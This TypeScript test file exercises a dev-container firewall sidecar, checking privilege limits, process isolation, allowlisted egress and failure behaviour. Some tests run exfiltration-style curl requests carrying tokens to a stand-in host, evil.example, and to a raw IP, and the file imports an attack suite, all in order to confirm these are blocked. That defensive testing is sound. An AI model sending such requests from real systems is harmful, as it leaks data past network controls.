import { readFileSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newToken } from '../firewall/attacks/attack.js';
import { attacks } from '../firewall/attacks.js';
import {
  escapes,
  forgesNoAnswers,
  isUnprivileged,
  lendsNoRights,
  privileged,
  reachesAllowedNames,
  refusesAttacks,
} from '../firewall/checks.js';
import { type Internet, startInternet } from '../firewall/internet.js';
import { listedNames } from '../firewall/listed.js';
import { run } from '../firewall/run.js';
import { installAttacks, type Scene } from '../firewall/target.js';
import {
  bringUp,
  composeProject,
  type DevContainer,
  docker,
  findContainers,
  missingEngine,
  plainContainer,
  removeProject,
} from './engine.js';
import { joinGateway, newProject, removeProjects, sidecar, startControl } from './project.js';

const skip = missingEngine() !== undefined;
let internet: Internet;

beforeAll(async () => {
  if (!skip) internet = await startInternet();
});
afterAll(() => {
  removeProjects();
  internet?.stop();
});

const network = `harden-${process.pid}`;
const networks = [
  { name: "the engine's default network", more: ['network_mode: bridge'], top: [], families: ['4'] },
  {
    name: 'a user-defined network with IPv6',
    more: [],
    top: ['networks:', `  default: { external: true, name: ${network} }`],
    families: ['4', '6'],
  },
];

describe.skipIf(skip).each(networks)('shape sidecar on $name', ({ more, top, families }) => {
  let workspace: DevContainer;
  let gateway: string;
  let control: string;
  const ipv6 = families.includes('6');

  beforeAll(async () => {
    const subnets = ['--subnet', '198.19.0.0/24', '--subnet', '2001:2:0:1::/64'];
    if (ipv6) docker('network', 'create', '--ipv6', ...subnets, network);
    const folder = newProject('--stack', 'python', '--agent', 'none', '--shape', 'sidecar', ...listedNames);
    joinGateway(internet, folder, more, top);
    ({ workspace, gateway } = sidecar(folder));
    const image = docker('inspect', '--format', '{{.Image}}', workspace.id);
    control = startControl(internet, image, ...(ipv6 ? [`--network=${network}`] : []));
    await installAttacks(workspace, plainContainer(control));
  });

  afterAll(() => {
    run('docker', ['rm', '--force', control]);
    removeProject(composeProject(workspace.id) ?? '');
    if (ipv6) run('docker', ['network', 'rm', network]);
  });

  const target = (): DevContainer => workspace;
  const scene: Scene = { internet: () => internet, target, control: () => plainContainer(control) };
  // PID 1 of the workspace is dev's own, and the kernel keeps it alive.
  isUnprivileged(
    target,
    privileged.filter((script) => script !== 'kill -9 1'),
  );
  lendsNoRights(target);
  reachesAllowedNames(scene, families);
  forgesNoAnswers(scene);
  refusesAttacks(
    scene,
    attacks.filter((attack) => ipv6 || !attack.ipv6),
  );

  it('has no capability to gain, in the workspace', async () => {
    const { stdout } = await workspace.exec('cat /proc/1/status /proc/self/status');
    expect(stdout.match(/^CapBnd:\s+0{16}$/gm)).toHaveLength(2);
    expect(stdout).not.toMatch(/^Uid:\s+0\s/m);
  });

  it("sees neither the gateway's processes nor its files", async () => {
    const { stdout } = await workspace.exec(
      'ps -e -o comm=; ls /etc/harden-devcontainer /var/log/harden-devcontainer /run/harden-devcontainer; command -v iptables haproxy dnsmasq s6-svc',
    );
    expect(stdout).not.toMatch(/s6|haproxy|dnsmasq|socat|iptables/);
    expect(stdout).not.toContain('allowlist');
  });

  it('gives no other container of the network a way through the workspace', async () => {
    const token = newToken();
    await workspace.attempt(`timeout 3 python3 -m http.server 9001 >/dev/null 2>&1 & sleep 1; true`);
    const format = '{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}';
    const address = docker('inspect', '--format', format, gateway);
    const { code } = await plainContainer(control).attempt(`curl -sS -m 2 http://${address}:9001/${token}`);
    expect(code).not.toBe(0);
  });

  it('starts a killed helper again, and stays closed meanwhile', async () => {
    await workspace.asRoot('pkill -9 haproxy; pkill -9 dnsmasq');
    const token = newToken();
    await workspace.attempt(
      `curl -sS -m 4 http://evil.example/${token}; curl -sS -m 4 http://198.18.0.66/${token}`,
    );
    expect(await escapes(scene, token)).toBe(false);
    const back = await workspace.attempt(
      'for i in $(seq 50); do curl -sS -m 5 http://allowed.example/ >/dev/null && exit 0; sleep 0.1; done; exit 1',
    );
    expect(back.code).toBe(0);
  });

  it('is closed where the gateway starts again alone, and whole after both did', async () => {
    docker('restart', '--time', '2', gateway);
    const token = newToken();
    const { code } = await workspace.attempt(`curl -sS -m 3 http://198.18.0.66:8080/${token}`);
    expect(code).not.toBe(0);
    expect(await escapes(scene, token)).toBe(false);
    docker('restart', '--time', '2', workspace.id);
    expect((await workspace.exec('/usr/local/bin/harden-ready')).code).toBe(0);
    expect((await workspace.attempt('curl -sS -m 5 http://allowed.example/')).code).toBe(0);
    const second = newToken();
    await workspace.attempt(`curl -sS -m 3 http://198.18.0.66:8080/${second}`);
    expect(await escapes(scene, second)).toBe(false);
  });
});

describe.skipIf(skip)('shape sidecar with a firewall that fails', () => {
  it('starts no workspace', () => {
    const folder = newProject('--stack', 'none', '--agent', 'none', '--shape', 'sidecar');
    joinGateway(internet, folder, ['network_mode: bridge']);
    const path = join(folder, '.devcontainer', 'allowlist');
    writeFileSync(path, `${readFileSync(path, 'utf8')}not a host name\n`);
    const project = `${basename(folder).toLowerCase()}_devcontainer`;
    try {
      expect(bringUp(folder).code).not.toBe(0);
      const running = run('docker', [
        'ps',
        '--quiet',
        '--filter',
        `label=com.docker.compose.project=${project}`,
      ]);
      expect(running.stdout).toBe('');
      const [gateway = ''] = findContainers(`com.docker.compose.project=${project}`);
      expect(run('docker', ['logs', gateway]).stderr).toContain('the allowlist is not understood');
    } finally {
      removeProject(project);
    }
  });
});
